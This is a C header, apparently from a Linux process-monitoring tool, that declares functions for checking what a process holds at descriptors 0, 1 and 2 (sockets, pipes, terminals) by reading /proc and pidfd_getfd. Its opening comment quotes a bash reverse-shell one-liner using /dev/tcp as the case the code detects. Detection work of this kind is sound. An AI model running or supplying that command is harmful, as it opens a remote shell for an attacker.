/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a living process has at its descriptors 0, 1 and 2 now: a shell may open a connection itself and put it there
 * after its last exec (`bash -i >& /dev/tcp/ADDR/PORT 0>&1`). Reads /proc, and asks sockets through a copy of the
 * descriptor (pidfd_getfd(2), since Linux 5.6, with CAP_SYS_PTRACE); where that is refused /proc/PID/net tells
 * addresses and no cookie. About ten system calls: for a process that something is asked about, not for each one.
 */
#pragma once

#include <stdbool.h>
#include <stdint.h>

#include "decode/event.h"
#include "decode/stdio.h"

/* 0; -ESRCH as proc_read(), other -errno when it is not ours to see. `ret` is then all STDIO_UNKNOWN. */
int proc_stdio_now(uint32_t pid, uint64_t start_ns, struct stdio ret[STDIO_COUNT]);

/*
 * Does the process hold the other end of `s` (of another process) in any of its first 256 descriptors: the same pipe,
 * the peer of a UNIX socket, the master of a terminal? Always 0 for other kinds. 1, 0, or -errno as above.
 */
int proc_holds(uint32_t pid, uint64_t start_ns, const struct stdio *s);

/* Is it the socket of that flow? By cookie where both are known, else by protocol, ports and the remote address. */
bool stdio_is_flow(const struct stdio *s, uint64_t cookie, const struct event_key *key);
